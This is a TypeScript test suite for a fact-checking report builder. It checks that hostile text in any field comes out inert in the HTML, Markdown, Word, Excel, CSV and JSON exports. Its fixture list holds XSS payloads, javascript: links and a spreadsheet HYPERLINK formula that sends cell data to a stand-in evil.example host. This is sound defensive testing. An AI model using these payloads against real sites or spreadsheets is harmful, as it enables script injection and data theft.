// Whatever stands in a field, a report shows it as text, in every format.
import {
  addEvidence,
  addHop,
  addProfile,
  askSecondOpinion,
  type Desk,
  editClaim,
  editDetails,
  giveVerdict,
  judgeOrigins,
  logReply,
  logSearch,
  nameReviewer,
  profileId,
  publishReport,
  reconcileVerdicts,
  revealVerdicts,
  type RichText,
  saveSetting,
  signOff,
  waiveRules,
  writeSummary,
} from '@claimbench/model'
import { after } from '@claimbench/model/testing'
import { strFromU8, unzipSync } from 'fflate'
import { parseHTML } from 'linkedom'
import { fromMarkdown } from 'mdast-util-from-markdown'
import { describe, expect, test } from 'vitest'
import { buildReport } from './build-report.ts'
import { claimReviewPages } from './claim-review/claim-review-pages.ts'
import { csvFromReport } from './csv/csv-from-report.ts'
import { docxFromReport } from './docx/docx-from-report.ts'
import { htmlFromReport } from './html/html-from-report.ts'
import { jsonFromReport } from './json/json-from-report.ts'
import { markdownFromReport } from './markdown/markdown-from-report.ts'
import { aCheckedDesk } from './testing/a-checked-desk.ts'
import { optionsFor } from './testing/a-report.ts'
import { ARTICLE, REVIEWER, SECOND_REVIEWER } from './testing/checked-sample.ts'
import { visibleText } from './visible-text.ts'
import { xlsxFromReport } from './xlsx/xlsx-from-report.ts'

const CONTEXT = { by: REVIEWER, at: '2024-05-20T19:00:00.000Z' }
const SECOND = { by: SECOND_REVIEWER, at: '2024-05-20T19:30:00.000Z' }
const CLAIM = 'claim-3-1'

const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '</style></script><script>alert(1)</script>',
  '" onmouseover="alert(1)" x="',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '[open](javascript:alert(1)) ![](https://evil.example/p.png)',
  '# heading\n\n| a | b |\n| - | - |',
  'safe \u202E txet desrever \u2066',
  '\u0000\uD800 broken',
  'a_x0041_b &lt; &#x41; <![CDATA[x]]>',
]

/** A desk whose every free field about one claim holds `words`. */
function deskWith(words: string): Desk {
  let desk = aCheckedDesk()
  const rationale: RichText = {
    type: 'doc',
    content: [
      { type: 'paragraph', content: [{ type: 'text', text: words, marks: [{ type: 'bold' }] }] },
      {
        type: 'bulletList',
        content: [
          {
            type: 'listItem',
            content: [
              {
                type: 'paragraph',
                content: [
                  {
                    type: 'text',
                    text: words,
                    marks: [{ type: 'link', attrs: { href: 'javascript:alert(1)' } }],
                  },
                ],
              },
            ],
          },
        ],
      },
    ],
  }
  const label = { id: words, name: words, definition: words }
  desk = after(
    desk,
    addProfile(desk, {
      id: profileId({ id: 'hostile', version: 1 }),
      profile: 'hostile',
      version: 1,
      name: words,
      language: 'en',
      note: words,
      scale: [{ id: 'low', name: `${words}1`, definition: words }, label],
      extras: [],
    }),
  )
  desk = after(desk, nameReviewer(desk, { reviewer: REVIEWER, name: words }))
  desk = after(
    desk,
    editDetails(desk, {
      article: ARTICLE,
      fields: {
        title: words,
        subtitle: words,
        byline: words,
        affiliation: words,
        outlet: words,
        originalOutlet: `${words}2`,
        section: words,
        region: [words],
        theme: [words],
      },
    }),
  )
  desk = after(
    desk,
    writeSummary(desk, {
      article: ARTICLE,
      fields: {
        finding: words,
        whatIsRight: words,
        notEstablished: words,
        fullTextPermission: words,
      },
    }),
  )
  desk = after(
    desk,
    editClaim(desk, {
      claim: CLAIM,
      fields: {
        wording: words,
        shortForm: Array.from(words).slice(0, 75).join(''),
        speakerKind: 'named',
        speaker: words,
        assignee: words,
      },
    }),
  )
  desk = after(
    desk,
    addEvidence(
      desk,
      {
        id: 'evidence-hostile',
        claim: CLAIM,
        source: {
          id: 'source-hostile',
          name: words,
          publisher: `${words}3`,
          kind: 'tertiary',
          interest: words,
        },
        fields: {
          question: words,
          answer: words,
          quote: words,
          locator: words,
          citation: words,
          relation: 'context',
          medium: 'other',
          liveAddress: 'https://a.example/"><script>alert(1)</script>',
        },
      },
      CONTEXT,
    ),
  )
  desk = after(
    desk,
    logSearch(
      desk,
      {
        id: 'search-hostile',
        claim: CLAIM,
        fields: { where: words, on: '2024-05-18', words, found: words, against: false },
      },
      CONTEXT,
    ),
  )
  desk = after(
    desk,
    giveVerdict(
      desk,
      {
        claim: CLAIM,
        fields: {
          profile: { id: 'hostile', version: 1 },
          label: words,
          conclusion: words,
          rationale,
          whatIsRight: words,
          notEstablished: words,
          wouldChange: words,
          openQuestions: words,
        },
      },
      CONTEXT,
    ),
  )
  desk = after(
    desk,
    saveSetting(desk, {
      setting: 'organisation',
      value: {
        name: words,
        address: 'https://factdesk.example.org/',
        claimPages: 'https://factdesk.example.org/claims/{claim}',
      },
    }),
  )
  desk = after(
    desk,
    logReply(
      desk,
      {
        id: 'reply-hostile',
        article: ARTICLE,
        fields: {
          whom: words,
          how: 'email',
          askedOn: '2024-05-18',
          answer: words,
          claims: [CLAIM],
        },
      },
      CONTEXT,
    ),
  )
  desk = after(desk, waiveRules(desk, { claim: CLAIM, rules: [words], reason: words }, CONTEXT))
  const other = [...desk.evidence.values()].find(
    ({ claim, id }) => claim === CLAIM && id !== 'evidence-hostile',
  )
  if (!other) throw new Error('The claim has no other evidence')
  const origins = { item: 'evidence-hostile', others: [other.id], joined: true, reason: words }
  desk = after(desk, judgeOrigins(desk, origins, CONTEXT))
  const hop = { words, kind: 'vague', resolvedTo: words, tried: words, note: words } as const
  const chained = { id: 'hop-hostile', claim: CLAIM, fields: hop }
  desk = after(desk, addHop(desk, chained, CONTEXT))
  const asked = after(desk, askSecondOpinion(desk, { claim: CLAIM, of: words }, CONTEXT))
  desk = after(
    asked,
    giveVerdict(
      asked,
      {
        claim: CLAIM,
        fields: { profile: { id: 'house', version: 1 }, label: 'false', rationale },
      },
      SECOND,
    ),
  )
  desk = after(desk, revealVerdicts(desk, { claim: CLAIM }, SECOND))
  const reconciled = { claim: CLAIM, outcome: 'first-stands', reconciliation: words } as const
  desk = after(desk, reconcileVerdicts(desk, reconciled, SECOND))
  desk = after(
    desk,
    signOff(desk, { id: 'sign-hostile', claim: CLAIM, reviewer: REVIEWER }, CONTEXT),
  )
  const version = { id: 'version-1', article: ARTICLE, reviewer: REVIEWER, corrections: [] }
  desk = after(desk, publishReport(desk, version, CONTEXT))
  const fields = { finding: `${words} again` }
  desk = after(desk, writeSummary(desk, { article: ARTICLE, fields }))
  return after(
    desk,
    publishReport(
      desk,
      {
        ...version,
        id: 'version-2',
        corrections: [
          { id: 'entry-1', piece: 'head', kind: 'typo', note: words, shownAt: words },
          { id: 'entry-2', piece: CLAIM, kind: 'clarification', note: words },
        ],
      },
      { ...CONTEXT, at: '2024-05-21T09:00:00.000Z' },
    ),
  )
}

/** Where the words must be found again, by the part of the report they were written into. */
const shown = (words: string) => visibleText(words).replace(/\s+/gu, ' ').trim()

interface Element {
  readonly tagName: string
  readonly attributes: Iterable<{ readonly name: string; readonly value: string }>
}

const ELEMENTS =
  /^(?:html|head|meta|title|style|link|body|a|header|p|h[1-4]|dl|div|dt|dd|nav|ol|ul|li|main|section|figure|figcaption|svg|desc|defs|pattern|path|text|rect|line|circle|details|summary|table|caption|thead|tbody|tr|th|td|fieldset|legend|label|input|small|b|span|sup|strong|em|q|code|blockquote|br|article|aside|footer|script)$/
const NO_HANDLER = /^(?!on)/

/** What is in a page that we never put there. */
function strangeIn(html: string): readonly string[] {
  const { document } = parseHTML(html) as unknown as {
    readonly document: { querySelectorAll(selector: '*'): Iterable<Element> }
  }
  return [...document.querySelectorAll('*')].flatMap(({ tagName, attributes }) => {
    const name = tagName.toLowerCase()
    const all = [...attributes]
    const address = all.find(one => /^(?:href|src)$/.test(one.name))?.value
    const type = all.find(one => one.name === 'type')?.value ?? ''
    return [
      ...(ELEMENTS.test(name) ? [] : [name]),
      ...all.map(one => one.name).filter(one => !NO_HANDLER.test(one)),
      ...(address === undefined || /^(?:https?:\/\/|#)/.test(address) ? [] : [address]),
      ...(name === 'script' && !/^application\/(?:ld\+)?json$/.test(type) ? ['script'] : []),
    ]
  })
}

/** Why a text is no well-formed XML 1.0 document; undefined where it is one. */
function faultIn(xml: string): string | undefined {
  const bad = /[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u.exec(xml)
  if (bad) return `a character that XML does not know at ${bad.index}`
  const open: string[] = []
  const rest = xml
    .replace(/<\?[^]*?\?>/g, '')
    .replace(
      /<(\/?)([\w:.-]+)((?:\s+[\w:.-]+\s*=\s*(?:"[^"<]*"|'[^'<]*'))*)\s*(\/?)>/g,
      (_, end: string, name: string, _attributes, alone: string) => {
        if (end === '') {
          if (alone === '') open.push(name)
        } else if (open.pop() !== name) open.push(`not closed before ${name}`)
        return ''
      },
    )
  if (open.length > 0) return `open: ${open.join(' ')}`
  const loose = /<|&(?!(?:amp|lt|gt|quot|apos|#\d+|#x[\da-f]+);)/i.exec(rest)
  return loose ? `a loose ${loose[0]}` : undefined
}

/** The words of an XML document, with single spaces; paragraphs and cells apart. */
function textOfXml(xml: string): string {
  return xml
    .replace(/<\/(?:w:p|c|si)>/g, ' ')
    .replace(/<[^>]*>/g, '')
    .replace(/&(amp|lt|gt|quot|apos);/g, (_, name: string) => ENTITIES[name] ?? '')
    .replace(/\s+/gu, ' ')
}

const ENTITIES: Readonly<Record<string, string>> = {
  amp: '&',
  lt: '<',
  gt: '>',
  quot: '"',
  apos: "'",
}

test('a fault in XML is seen', () => {
  expect(faultIn('<a x="1"><b/>t &amp; u</a>')).toBeUndefined()
  for (const xml of ['<a><b></a>', '<a>1 < 2</a>', '<a>&nope</a>', '<a>\u0000</a>', '<a>']) {
    expect(faultIn(xml)).toBeDefined()
  }
})

test('strange things in a page are seen', () => {
  expect(
    strangeIn('<img src="x" onerror="alert(1)"><a href="javascript:1"></a><script></script>'),
  ).toEqual(['img', 'onerror', 'x', 'javascript:1', 'script'])
})

describe.each(HOSTILE.map(words => [words.slice(0, 40), words] as const))('with %j', (_, words) => {
  const desk = deskWith(words)

  const report = buildReport(desk, optionsFor('full'))
  if (!report) throw new Error('no report')

  test('the HTML holds only its own mark-up', () => {
    expect(strangeIn(htmlFromReport(report))).toEqual([])
  })

  test('the claim’s page and the index hold only their own mark-up', () => {
    const set = claimReviewPages(desk, optionsFor('publish'))
    if (!set.ok) throw new Error(set.error)
    const { pages, index } = set.value
    const page = pages.find(({ claim }) => claim === CLAIM)
    expect(strangeIn(page?.html ?? '<lost>')).toEqual([])
    expect(strangeIn(index.html)).toEqual([])
  })

  test('the Markdown holds no HTML, no image and only links to http(s)', () => {
    const nodes: { readonly type: string; readonly url?: string }[] = []
    const visit = (node: object) => {
      if ('type' in node) nodes.push(node as { type: string; url?: string })
      if ('children' in node) (node.children as object[]).forEach(visit)
    }
    visit(fromMarkdown(markdownFromReport(report)))
    expect(nodes.filter(({ type }) => /html|image|code$|definition/.test(type))).toEqual([])
    expect(nodes.filter(({ url }) => url !== undefined && !/^https?:/.test(url))).toEqual([])
    expect(nodes.filter(({ type }) => type === 'heading').length).toBeLessThan(400)
  })

  test('the HTML shows the words wherever they were written', () => {
    const { document } = parseHTML(htmlFromReport(report)) as unknown as {
      readonly document: { readonly body: { readonly textContent: string } }
    }
    const text = document.body.textContent.replace(/\s+/gu, ' ')
    expect(text.split(shown(words)).length - 1).toBeGreaterThan(40)
  })

  test('the Word document holds the words as text, and leads only to http(s)', async () => {
    const parts = unzipSync(await docxFromReport(report))
    for (const [name, bytes] of Object.entries(parts)) {
      if (!/\.(?:xml|rels)$/.test(name)) continue
      // What is no well-formed XML is not opened by Word.
      expect(faultIn(strFromU8(bytes)) && name).toBeUndefined()
    }
    const rels = strFromU8(parts['word/_rels/document.xml.rels'] ?? new Uint8Array())
    const outward = [...rels.matchAll(/Target="([^"]*)" TargetMode="External"/g)]
    expect(outward.filter(([, to = '']) => !/^https?:/.test(to))).toEqual([])
    const xml = strFromU8(parts['word/document.xml'] ?? new Uint8Array())
    expect(xml).not.toMatch(/<w:(?:instrText|fldSimple)[^>]*>(?!\s*(?:TOC|PAGE|NUMPAGES|SEQ))/)
    expect(textOfXml(xml).split(shown(words)).length - 1).toBeGreaterThan(30)
  })

  test('the workbook holds the words as text, and no formula', async () => {
    const parts = unzipSync(await xlsxFromReport(report))
    const sheets = Object.entries(parts).filter(([name]) => name.endsWith('.xml'))
    for (const [name, bytes] of sheets) {
      expect(faultIn(strFromU8(bytes)) && name).toBeUndefined()
      expect(strFromU8(bytes)).not.toMatch(/<f[ >]/)
    }
    // Equal texts are kept once. The library leaves out the sign for what is no character.
    const all = sheets.map(([, bytes]) => textOfXml(strFromU8(bytes))).join(' ')
    expect(all.replaceAll('_x005F_', '_')).toContain(shown(words).replaceAll('\uFFFD', ''))
  })

  test('the JSON reads back as it was', () => {
    expect(JSON.parse(jsonFromReport(report))).toMatchObject({
      report: JSON.parse(JSON.stringify(report.facts)),
    })
  })

  test('no cell of a table begins a formula', () => {
    for (const { text } of csvFromReport(report)) {
      expect(text).not.toMatch(/(?:^\uFEFF|,|\r\n)"?\s*[=+\-@]/)
    }
  })
})

test('a text of 100 KB in every field is kept whole', async () => {
  const words = 'long '.repeat(20_000).trim()
  const report = buildReport(deskWith(words), optionsFor('full'))
  if (!report) throw new Error('no report')
  expect(htmlFromReport(report).split(words).length).toBeGreaterThan(30)
  expect(markdownFromReport(report).split(words).length).toBeGreaterThan(20)
  expect(jsonFromReport(report).split(words).length).toBeGreaterThan(30)
  const [claims] = csvFromReport(report)
  expect(claims?.text).toContain(words)
  const parts = unzipSync(await docxFromReport(report))
  const xml = strFromU8(parts['word/document.xml'] ?? new Uint8Array())
  expect(textOfXml(xml).split(words).length).toBeGreaterThan(30)
  expect((await xlsxFromReport(report)).length).toBeGreaterThan(10_000)
}, 240_000)
